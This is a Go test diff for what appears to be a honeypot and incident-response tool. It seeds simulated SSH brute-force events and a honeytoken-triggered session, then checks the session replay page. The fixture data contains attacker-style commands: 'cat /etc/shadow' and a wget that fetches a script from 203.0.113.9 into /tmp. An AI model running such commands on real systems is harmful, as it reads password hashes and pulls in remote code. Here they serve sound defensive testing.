@@ -6,7 +6,6 @@ import (
 	"context"
 	"io"
 	"slices"
-	"encoding/json"
 	"fmt"
 	"net/http/httptest"
 	"os"
@@ -19,7 +18,7 @@ import (
 	"github.com/chromedp/chromedp"
 
 	"github.com/vallum/vallum/internal/bundle"
-	"github.com/vallum/vallum/internal/evidence"
+	"github.com/vallum/vallum/internal/honeytoken"
 	"github.com/vallum/vallum/internal/incident"
 	"github.com/vallum/vallum/internal/sensor"
 )
@@ -74,14 +73,32 @@ func seed(t *testing.T, e *testEnv) incident.Incident {
 		t.Fatal(err)
 	}
 	e.srv.Desk.AddNote(ctx, paola, inc.ID, "Isolate pacs1 before the next backup window.")
+	tok, err := e.srv.Honeytokens.Registry.Create(ctx, "paola", honeytoken.Request{Type: "credential", Planted: "fileserver:/srv/finance/vpn-passwords.txt"})
+	if err != nil {
+		t.Fatal(err)
+	}
 	for i := range 40 {
 		src := []string{"203.0.113.9", "198.51.100.23", "192.0.2.77"}[i%3]
-		ev := sensor.Event{ID: fmt.Sprint("ev", i), Time: e.clock.now().Add(-time.Duration(i*37) * time.Minute), Sensor: "edge-1/ssh", Protocol: "ssh",
-			Kind: sensor.KindAuth, Src: sensor.Endpoint{IP: src, Port: 40000 + i}, Credentials: &sensor.Credentials{Method: "password", Username: "root"}}
-		b, _ := json.Marshal(ev)
-		if _, err := e.srv.Log.Append(ctx, evidence.Record{Kind: eventKind, Actor: "sensor", Payload: b}); err != nil {
-			t.Fatal(err)
+		e.event(sensor.Event{ID: fmt.Sprint("ev", i), Time: e.clock.now().Add(-time.Duration(40-i) * 37 * time.Minute), Sensor: "edge-1/ssh", Protocol: "ssh",
+			Kind: sensor.KindAuth, Src: sensor.Endpoint{IP: src, Port: 40000 + i}, Session: fmt.Sprint("ssh-", i/4),
+			Credentials: &sensor.Credentials{Method: "password", Username: "root", Password: "admin123"}})
+	}
+	// One session that got in and typed.
+	at := e.clock.now().Add(-10 * time.Minute)
+	for i, ev := range []sensor.Event{
+		{Kind: sensor.KindAuth, Credentials: &sensor.Credentials{Method: "password", Username: tok.Fields["username"], Password: tok.Fields["password"], Accepted: true}, Honeytoken: tok.ID},
+		{Kind: sensor.KindCommand, Command: "uname -a"},
+		{Kind: sensor.KindCommand, Command: "cat /etc/shadow"},
+		{Kind: sensor.KindCommand, Command: "wget http://203.0.113.9/x.sh -O /tmp/x.sh"},
+		{Kind: sensor.KindUpload, Payloads: []sensor.PayloadRef{{SHA256: strings.Repeat("c3", 32), Size: 18234, Name: "/tmp/x.sh"}}},
+		{Kind: sensor.KindDisconnect},
+	} {
+		ev.ID, ev.Time, ev.Sensor, ev.Protocol, ev.Session = fmt.Sprint("live", i), at.Add(time.Duration(i)*4*time.Second), "edge-1/ssh", "ssh", "ssh-live"
+		ev.Src = sensor.Endpoint{IP: "203.0.113.9", Port: 51515}
+		if ev.Kind == sensor.KindCommand {
+			ev.Severity = sensor.SeverityHigh
 		}
+		e.event(ev)
 	}
 	e.waitProjected()
 	return inc
@@ -291,6 +308,16 @@ func TestBrowser(t *testing.T) {
 	do("the incident after", chromedp.Navigate(ts.URL+"/incidents/"+inc.ID), chromedp.WaitVisible(css("#tl-h")), shot("incident-after"))
 	do("log page", chromedp.Navigate(ts.URL+"/evidence-log"), chromedp.WaitVisible(css("#ent-h")), shot("log"))
 	do("sensors page", chromedp.Navigate(ts.URL+"/sensors"), chromedp.WaitVisible(css("#feed")), shot("sensors"))
+	do("session replay",
+		chromedp.Click(css(`a[href="/sensors/sessions/ssh-live"]`)),
+		chromedp.WaitVisible(css("#replay-play")),
+		chromedp.Click(css("#replay-play")),
+		chromedp.Sleep(1500*time.Millisecond),
+		shot("session"),
+	)
+	if s := text("#transcript"); !strings.Contains(s, "cat /etc/shadow") {
+		t.Fatalf("the replay lacks the commands: %s", s)
+	}
 	do("Now in Italian", chromedp.Navigate(ts.URL+"/?lang=it"), chromedp.WaitVisible(css("#feed")), shot("now-it"))
 	if s := text("h1"); s != "Adesso" {
 		t.Fatalf("the Italian Now page is titled %q", s)
